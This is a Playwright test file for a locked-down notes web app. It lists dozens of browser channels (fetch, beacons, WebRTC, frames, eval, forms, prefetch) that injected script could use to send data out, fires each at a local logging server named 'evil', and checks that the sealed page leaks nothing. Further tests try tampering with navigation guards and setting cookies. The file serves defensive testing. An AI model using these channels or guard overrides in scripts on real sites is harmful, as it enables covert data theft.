// Code that got into the page after all: every way it could try to send something out, tried for real from inside the page
// against a server that writes down what arrives. The same ways are tried from a page without protection first, so that a
// way which this browser doesn't go by itself proves nothing.
import { expect, test } from "@playwright/test";
import dgram from "node:dgram";
import http from "node:http";
import { serve } from "../../scripts/serve.mjs";
import { hosted } from "./hosted.mjs";
import { Worker } from "./worker.mjs";

/** Each way out: run in the page with the address to reach. What it throws is ignored. */
const WAYS = {
  "fetch": (to) => fetch(to, { mode: "no-cors" }),
  "fetch that outlives the page": (to) => fetch(to, { mode: "no-cors", method: "POST", body: "x", keepalive: true }),
  "XMLHttpRequest": (to) => { const it = new XMLHttpRequest(); it.open("GET", to); it.send(); },
  "WebSocket": (to) => { new WebSocket(to.replace("http", "ws")); },
  "EventSource": (to) => { new EventSource(to); },
  "beacon": (to) => navigator.sendBeacon(to, "x"),
  "image": (to) => { new Image().src = to; },
  "image set": (to) => { const it = document.createElement("img"); it.srcset = `${to} 1x`; document.body.append(it); },
  "SVG image": (to) => { const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg"); const it = document.createElementNS("http://www.w3.org/2000/svg", "image"); it.setAttribute("href", to); svg.append(it); document.body.append(svg); },
  "input image": (to) => { const it = document.createElement("input"); it.type = "image"; it.src = to; document.body.append(it); },
  "style sheet": (to) => { const it = document.createElement("link"); it.rel = "stylesheet"; it.href = to; document.head.append(it); },
  "prefetch": (to) => { const it = document.createElement("link"); it.rel = "prefetch"; it.href = to; document.head.append(it); },
  "preload": (to) => { const it = document.createElement("link"); it.rel = "preload"; it.as = "image"; it.href = to; document.head.append(it); },
  "early connection": (to) => { const it = document.createElement("link"); it.rel = "preconnect"; it.href = to; document.head.append(it); },
  "module preload": (to) => { const it = document.createElement("link"); it.rel = "modulepreload"; it.href = to; document.head.append(it); },
  "icon": (to) => { const it = document.createElement("link"); it.rel = "icon"; it.href = to; document.head.append(it); },
  "manifest": (to) => { const it = document.createElement("link"); it.rel = "manifest"; it.href = to; document.head.append(it); },
  "font": (to) => new FontFace("x", `url(${to})`).load(),
  "frame": (to) => { const it = document.createElement("iframe"); it.src = to; document.body.append(it); },
  "video": (to) => { const it = document.createElement("video"); it.src = to; it.load(); },
  "audio": (to) => { new Audio(to).load(); },
  "object": (to) => { const it = document.createElement("object"); it.data = to; document.body.append(it); },
  "embed": (to) => { const it = document.createElement("embed"); it.src = to; document.body.append(it); },
  "form": (to) => { const it = document.createElement("form"); it.action = to; document.body.append(it); it.submit(); },
  "form in a new window": (to) => { const it = document.createElement("form"); it.action = to; it.target = "_blank"; it.method = "post"; document.body.append(it); it.submit(); },
  "new window": (to) => { window.open(to); },
  "address": (to) => { location.href = to; },
  "address replaced": (to) => { location.replace(to); },
  "link": (to) => { const it = document.createElement("a"); it.href = to; document.body.append(it); it.click(); },
  "link in a new window": (to) => { const it = document.createElement("a"); it.href = to; it.target = "_blank"; it.click(); },
  "link that saves": (to) => { const it = document.createElement("a"); it.href = to; it.download = "x"; document.body.append(it); it.click(); },
  "ping": (to) => { const it = document.createElement("a"); it.href = "#x"; it.ping = to; document.body.append(it); it.click(); },
  "style element": (to) => { const it = document.createElement("style"); it.append(`body { background-image: url(${to}) }`); document.head.append(it); },
  "style by script": (to) => { document.body.style.backgroundImage = `url(${to})`; return document.body.offsetWidth; },
  "import": (to) => import(to),
  "script": (to) => { const it = document.createElement("script"); it.src = to; document.head.append(it); },
  "meta refresh": (to) => { const it = document.createElement("meta"); it.httpEquiv = "refresh"; it.content = `0;url=${to}`; document.head.append(it); },
  "WebRTC by UDP": (to) => { const it = new RTCPeerConnection({ iceServers: [{ urls: to.replace("http://", "stun:").replace(/\/.*/, "") }] }); it.createDataChannel("x"); return it.createOffer().then((offer) => it.setLocalDescription(offer)); },
  "WebRTC by TCP": (to) => { const it = new RTCPeerConnection({ iceServers: [{ urls: `${to.replace("http://", "turn:").replace(/\/.*/, "")}?transport=tcp`, username: "x", credential: "x" }] }); it.createDataChannel("x"); return it.createOffer().then((offer) => it.setLocalDescription(offer)); },
  "WebTransport": (to) => { new WebTransport(to.replace("http:", "https:")); },
  "worker": (to) => { new Worker(to); },
  "worker made here": (to) => { new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(to)}, { mode: "no-cors" })`]))); },
  "shared worker made here": (to) => { new SharedWorker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(to)}, { mode: "no-cors" })`]))); },
  "later fetch": (to) => globalThis.fetchLater(to, { activateAfter: 0 }),
  "speculation": (to) => { const it = document.createElement("script"); it.type = "speculationrules"; it.text = JSON.stringify({ prefetch: [{ source: "list", urls: [to], eagerness: "immediate" }] }); document.head.append(it); },
  "sign-in by another site": (to) => navigator.credentials.get({ identity: { providers: [{ configURL: to, clientId: "x" }] } }),
  "payment by another site": (to) => new PaymentRequest([{ supportedMethods: to }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment(),
  "the realm of an empty frame": (to) => { const it = document.createElement("iframe"); document.body.append(it); it.contentWindow.fetch(to, { mode: "no-cors" }); new it.contentWindow.Image().src = to; it.contentWindow.navigator.sendBeacon(to, "x"); },
  "WebRTC in the realm of an empty frame": (to) => { const frame = document.createElement("iframe"); document.body.append(frame); const it = new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: to.replace("http://", "stun:").replace(/\/.*/, "") }] }); it.createDataChannel("x"); return it.createOffer().then((offer) => it.setLocalDescription(offer)); },
  "the realm of a frame that another document made": (to) => { const it = document.adoptNode(document.implementation.createDocument("http://www.w3.org/1999/xhtml", "iframe").documentElement); document.body.append(it); it.contentWindow.fetch(to, { mode: "no-cors" }); },
  "the realm of a frame with a name of its own": (to) => { const name = `x-${Math.random().toString(36).slice(2)}`; class Own extends HTMLIFrameElement {} customElements.define(name, Own, { extends: "iframe" }); const it = new Own(); document.body.append(it); it.contentWindow.fetch(to, { mode: "no-cors" }); },
  "a frame made of text": (to) => { const it = document.createElement("iframe"); it.srcdoc = `<img src="${to}">`; document.body.append(it); },
  "a frame that is a script": (to) => { const it = document.createElement("iframe"); it.src = `javascript:fetch("${to}")`; document.body.append(it); },
  "markup": (to) => { document.body.insertAdjacentHTML("beforeend", `<img src="${to}">`); },
  "markup that is made safe": (to) => { const it = document.createElement("div"); it.setHTML(`<img src="${to}">`); document.body.append(it); },
  "written markup": (to) => { document.write(`<img src="${to}">`); },
  "parsed markup": (to) => { const it = new DOMParser().parseFromString(`<img src="${to}">`, "text/html"); document.body.append(document.adoptNode(it.images[0])); },
  "code from text": (to) => { (0, eval)(`fetch(${JSON.stringify(to)}, { mode: "no-cors" })`); },
  "a timer's text": (to) => { setTimeout(`fetch(${JSON.stringify(to)}, { mode: "no-cors" })`); },
  "a message to the service worker": (to) => { navigator.serviceWorker.controller?.postMessage(to); },
};

/** A server elsewhere that writes down every request, and every datagram. */
async function elsewhere(use) {
  const arrived = new Set();
  const tell = (what) => arrived.add(decodeURIComponent(what.split("?")[0].slice(1)));
  const server = http.createServer((request, response) => {
    tell(request.url);
    response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/plain" });
    response.end();
  });
  const connections = [];
  server.on("connection", (socket) => connections.push(socket));
  server.on("upgrade", (request, socket) => { tell(request.url); socket.destroy(); });
  // What speaks no HTTP: TURN over TCP.
  server.on("clientError", (_, socket) => { tell("/WebRTC by TCP"); socket.destroy(); });
  await new Promise((done) => server.listen(0, "127.0.0.1", done));
  const { port } = server.address();
  const datagrams = dgram.createSocket("udp4", () => tell("/WebRTC by UDP"));
  await new Promise((done) => datagrams.bind(port, "127.0.0.1", done));
  try {
    await use(`http://127.0.0.1:${port}`, arrived, () => connections.reduce((sum, it) => sum + it.bytesRead, 0));
  } finally {
    datagrams.close();
    server.closeAllConnections();
    await new Promise((done) => server.close(done));
  }
}

/** A page that nothing protects. */
async function plain(use) {
  const server = http.createServer((_, response) => { response.writeHead(200, { "content-type": "text/html" }); response.end("<!doctype html><title>plain</title><body>"); });
  await new Promise((done) => server.listen(0, "127.0.0.1", done));
  try {
    await use(`http://127.0.0.1:${server.address().port}/`);
  } finally {
    server.closeAllConnections();
    server.close();
  }
}

/** Tries one way out, and gives it a moment. */
const tries = (page, name, to, moment) => page.evaluate(`Promise.race([Promise.resolve().then(() => (${WAYS[name]})(${JSON.stringify(to)})), new Promise((done) => setTimeout(done, ${moment}))]).catch(() => undefined).then(() => undefined)`);

test("the ways out are real: from a page without protection they arrive", async ({ browser }) => {
  test.slow();
  await elsewhere(async (evil, arrived) => {
    const names = Object.keys(WAYS);
    const context = await browser.newContext();
    const one = async (address) => {
      for (let name = names.shift(); name; name = names.shift()) {
        const page = await context.newPage();
        await page.goto(address);
        await tries(page, name, `${evil}/${encodeURIComponent(name)}`, 300).catch(() => undefined);
        for (let i = 0; i < 15 && !arrived.has(name); i += 1) await page.waitForTimeout(20);
      }
    };
    await plain((address) => Promise.all([one(address), one(address), one(address), one(address)]));
    // Those that this browser doesn't go without a gesture, without TLS, only when it likes, or at all. "early connection" sends
    // nothing: no policy forbids it, and a name that someone looks up can carry something. It is said in SECURITY.md. Datagrams
    // carry no name: those from a frame count as the ones of the page itself.
    const idle = ["WebRTC in the realm of an empty frame", "early connection", "speculation", "manifest", "WebTransport", "worker", "markup that is made safe", "a message to the service worker"];
    await expect.poll(() => Object.keys(WAYS).filter((it) => !arrived.has(it) && !idle.includes(it)), { timeout: 15_000 }).toEqual([]);
  });
});

for (const [how, headers, later] of [["with a host's headers", true], ["on a host that sends no headers", false], ["on a later visit to such a host", true, true]]) {
  test(`from the sealed page nothing arrives, ${how}`, async ({ page, context }) => {
    test.slow();
    await elsewhere(async (evil, arrived, bytes) => {
      const asked = [];
      const server = await serve({ port: 0, prefix: "/a/", bare: !headers || later, onRequest: (path) => asked.push(path) });
      try {
        const worker = new Worker(page);
        for (let visit = later ? 2 : 1; visit > 0; visit -= 1) {
          await worker.opens(server.url);
          await worker.sealed();
        }
        asked.length = 0;
        const pages = [];
        context.on("page", (it) => pages.push(it));
        const names = Object.keys(WAYS);
        for (const name of names) {
          await tries(page, name, `${evil}/${encodeURIComponent(name)}`, 60);
          // The same, to the page's own host: nothing is to show there either.
          await tries(page, name, `${server.url}?${encodeURIComponent(name)}`, 60);
        }
        await page.waitForTimeout(1000);
        // Without the header's sandbox a page may open windows; nothing within the page can take that from it.
        expect([...arrived].sort()).toEqual(headers ? [] : ["favicon.ico", "link in a new window"]);
        if (headers) expect(bytes()).toBe(0);
        expect(pages.length).toBe(headers ? 0 : 2);
        // Those of that window's own start, which is one like any other. Where the host says nothing of caches, the browser looks for a
        // newer service worker by itself.
        expect([...new Set(asked)].filter((it) => !later || it !== "/a/sw.js").sort()).toEqual(headers ? [] : ["/a/", "/a/deployment.json", "/a/sw.js", "/a/vault.js", "/a/wipe.html"]);
        expect(page.url()).toBe(server.url);
        expect(await page.evaluate(() => document.title)).toBe("Notes");
      } finally {
        await server.close();
      }
    });
  });
}

/** What a script could do about the guard on navigation, or about cookies, and what then arrives. */
const AROUND = {
  "Leave now pressed by a script": (to) => { document.querySelector("[data-leave]").click(); location.href = to; },
  "its keys pressed by a script": (to) => { for (let i = 0; i < 3; i += 1) document.dispatchEvent(new KeyboardEvent("keydown", { key: "Shift", bubbles: true })); location.href = to; },
  "nothing can be prevented": (to) => { Event.prototype.preventDefault = () => undefined; location.href = to; },
  "everything is a way back": (to) => { Object.defineProperty(NavigateEvent.prototype, "navigationType", { get: () => "traverse" }); location.href = to; },
  "everything goes home": (to) => { const { href } = location; Object.defineProperty(NavigationDestination.prototype, "url", { get: () => href }); location.href = to; },
  "everything is a file": (to) => { String.prototype.startsWith = () => true; const it = document.createElement("a"); it.href = to; it.download = "x"; document.body.append(it); it.click(); },
  "every address is the page that erases": (to) => { Object.defineProperty(Node.prototype, "baseURI", { get: () => to }); globalThis.URL = function URL() { return { href: to }; }; location.href = to; },
};

test("nor by the way out, nor by what is put in the place of the guard’s own tools", async ({ page }) => {
  await elsewhere(async (evil, arrived) => {
    // Leave now goes to a place that isn't there: one that a test answers would hold up the others, too.
    await hosted(async ({ address }) => {
      for (const [name, way] of Object.entries(AROUND)) {
        const worker = new Worker(page);
        await worker.opens(address);
        await worker.sealed();
        await page.evaluate(`(${way})(${JSON.stringify(`${evil}/${encodeURIComponent(name)}`)})`).catch(() => undefined);
        await page.waitForTimeout(700);
        expect([...arrived], name).toEqual([]);
      }
    }, { settings: { leaveTo: "https://away.invalid/" } });
  });
});

test("a script in the page sets no cookie", async ({ page, context }) => {
  const worker = new Worker(page);
  await worker.opens();
  const ways = [
    () => { document.cookie = "a=1; path=/"; },
    () => Object.getOwnPropertyDescriptor(Document.prototype, "cookie").set.call(document, "b=1; path=/"),
    () => globalThis.cookieStore.set("c", "1"),
    () => { const it = document.adoptNode(document.implementation.createDocument("http://www.w3.org/1999/xhtml", "iframe").documentElement); document.body.append(it); it.contentDocument.cookie = "d=1; path=/"; },
    () => { class Own extends HTMLIFrameElement {} customElements.define("x-own", Own, { extends: "iframe" }); const it = new Own(); document.body.append(it); it.contentDocument.cookie = "e=1; path=/"; },
  ];
  for (const way of ways) await page.evaluate(way).catch(() => undefined);
  expect(await context.cookies()).toEqual([]);
  // From a page without protection each of them does.
  await plain(async (address) => {
    await page.goto(address);
    for (const way of ways) await page.evaluate(way).catch(() => undefined);
  });
  expect((await context.cookies()).map((it) => it.name).sort()).toEqual(["a", "b", "c", "d", "e"]);
});
